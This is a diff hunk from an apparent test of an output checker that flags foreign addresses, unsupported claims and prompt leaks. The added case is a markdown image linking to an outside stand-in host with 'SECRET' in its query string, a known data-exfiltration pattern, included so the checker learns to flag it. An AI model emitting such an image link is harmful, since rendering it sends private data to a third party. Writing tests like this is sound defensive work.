@@ -294,6 +294,7 @@ def test_a_word_of_praise_needs_more_than_its_like_in_the_source() -> None:
         ("Write to boss@elsewhere.test.", "format.foreign-address"),
         ("See https://www.dewclaw.example/used-by-90000-clinics now.", "format.foreign-address"),
         ("See https://www.dewclaw.example/desk?used-by=90000-clinics now.", "format.foreign-address"),
+        ("![logo](https://elsewhere.test/p.png?d=SECRET)", "format.foreign-address"),
         ("`We are used by 90,000 clinics.`", "claims.freehand"),
         ("```\nWe are used by 90,000 clinics.\n```", "format.prompt-leak"),
         ("Well.\n\n    We are used by 90,000 clinics.", "format.prompt-leak"),
